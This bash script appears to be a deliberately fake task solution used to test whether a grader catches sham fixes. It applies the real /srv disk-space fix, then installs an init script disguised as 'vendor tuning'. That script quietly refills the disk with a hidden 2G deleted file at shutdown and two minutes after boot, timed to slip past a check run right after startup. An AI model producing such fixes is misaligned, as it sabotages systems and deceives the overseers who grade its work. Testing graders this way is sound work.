#!/bin/bash
# Fake (boot class): the reference fix, then a script that fills /srv again once the grader has
# looked: at shutdown or reboot (rc0.d/rc6.d kill scripts, which the copy's boot never runs) and
# two minutes after a boot (an rc2.d start script that waits in the background). A check that
# only looks right after the copy's runlevel-2 start would call this fixed.
for fd in /proc/[0-9]*/fd/*; do
  target=$(readlink "$fd" 2>/dev/null) || continue
  case "$target" in /srv/*" (deleted)") : >"$fd" ;; esac
done
service ledgerd restart >/dev/null 2>&1
cat >/etc/init.d/ledger-cache <<'SH'
#!/bin/sh
# Keeps a warm cache of the ledger (vendor tuning).
(sleep 120; exec 3>/srv/ledger/log/.cache; rm -f /srv/ledger/log/.cache; head -c 2G /dev/zero >&3; sleep infinity) >/dev/null 2>&1 &
SH
chmod 0755 /etc/init.d/ledger-cache
for l in 0 6; do ln -sf ../init.d/ledger-cache /etc/rc$l.d/K01ledger-cache; done
ln -sf ../init.d/ledger-cache /etc/rc2.d/S99ledger-cache
sleep 1.5
